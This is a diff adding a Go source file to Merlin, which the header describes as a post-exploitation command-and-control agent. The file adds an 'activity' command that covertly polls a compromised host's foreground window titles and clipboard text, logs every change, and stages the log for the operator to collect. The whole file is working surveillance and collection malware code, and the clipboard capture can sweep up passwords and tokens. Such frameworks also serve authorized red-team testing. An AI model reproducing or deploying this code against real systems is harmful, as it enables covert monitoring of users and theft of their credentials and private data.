@@ -0,0 +1,177 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"strconv"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+const (
+	// defaultActivityInterval is how often the foreground window and clipboard are checked when an interval is not
+	// provided
+	defaultActivityInterval = 5
+	// activityStageEvery is how often the activity log is written to the staging area
+	activityStageEvery = 5 * time.Minute
+	// maxActivityLog is the activity log size that causes it to be staged early
+	maxActivityLog = 512 * 1024
+	// maxClipboardSnapshot caps how much of the clipboard is recorded for each change
+	maxClipboardSnapshot = 4096
+)
+
+// Activity records the foreground window title and clipboard text whenever they change. The log is written to the
+// staging area every few minutes and when the monitor stops; the staging IDs are reported on check-in
+// activity start [interval seconds] [windows|clipboard|both]
+// activity list
+// activity stop <id>
+func Activity(cmd jobs.Command, report Reporter) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Activity() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the activity command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		interval := defaultActivityInterval
+		if len(cmd.Args) > 1 {
+			var err error
+			if interval, err = strconv.Atoi(cmd.Args[1]); err != nil || interval < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid interval in seconds", cmd.Args[1])
+				return
+			}
+		}
+		windows, clipboard := true, true
+		if len(cmd.Args) > 2 {
+			switch strings.ToLower(cmd.Args[2]) {
+			case "windows":
+				clipboard = false
+			case "clipboard":
+				windows = false
+			case "both":
+			default:
+				results.Stderr = fmt.Sprintf("%s is not a valid activity source, use windows, clipboard, or both", cmd.Args[2])
+				return
+			}
+		}
+		// Check the sources once so a host without a desktop session is reported with the job
+		if windows {
+			if _, err := foregroundWindow(); err != nil {
+				results.Stderr = fmt.Sprintf("there was an error getting the foreground window: %s", err)
+				return
+			}
+		}
+		if clipboard {
+			if _, err := clipboardText(); err != nil {
+				results.Stderr = fmt.Sprintf("there was an error reading the clipboard: %s", err)
+				return
+			}
+		}
+		m, err := startMonitor("activity", fmt.Sprintf("every %ds windows %t clipboard %t", interval, windows, clipboard), report, func(m *monitor, stop <-chan struct{}) error {
+			return runActivity(m, windows, clipboard, time.Duration(interval)*time.Second, stop)
+		})
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Started activity %s every %d seconds, the log is staged every %s", m.ID, interval, activityStageEvery)
+	case "list":
+		results.Stdout = listMonitors("activity")
+	case "stop":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the activity stop command"
+			return
+		}
+		if err := stopMonitor("activity", cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Stopped activity %s", cmd.Args[1])
+	default:
+		results.Stderr = fmt.Sprintf("unknown activity command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// runActivity polls the foreground window and clipboard, logs changes, and stages the log periodically
+func runActivity(m *monitor, windows, clipboard bool, interval time.Duration, stop <-chan struct{}) error {
+	var log bytes.Buffer
+	var lastWindow, lastClipboard string
+	var entries, part int
+	stage := func() {
+		if log.Len() == 0 {
+			return
+		}
+		part++
+		id, err := staging.Add(fmt.Sprintf("activity-%s-%d.log", m.ID, part), log.Bytes())
+		if err != nil {
+			m.event("there was an error staging the activity log: %s", err)
+			return
+		}
+		m.event("staged %d activity entries as %s", entries, id)
+		log.Reset()
+		entries = 0
+	}
+	defer stage()
+
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+	staged := time.Now()
+	for {
+		select {
+		case <-stop:
+			return nil
+		case <-ticker.C:
+		}
+		now := time.Now().UTC().Format(time.RFC3339)
+		if windows {
+			if title, err := foregroundWindow(); err == nil && title != lastWindow {
+				lastWindow = title
+				log.WriteString(fmt.Sprintf("%s window %s\n", now, title))
+				entries++
+			}
+		}
+		if clipboard {
+			if text, err := clipboardText(); err == nil && text != lastClipboard {
+				lastClipboard = text
+				if len(text) > maxClipboardSnapshot {
+					text = text[:maxClipboardSnapshot] + "..."
+				}
+				log.WriteString(fmt.Sprintf("%s clipboard %q\n", now, text))
+				entries++
+			}
+		}
+		if log.Len() >= maxActivityLog || time.Since(staged) >= activityStageEvery {
+			stage()
+			staged = time.Now()
+		}
+	}
+}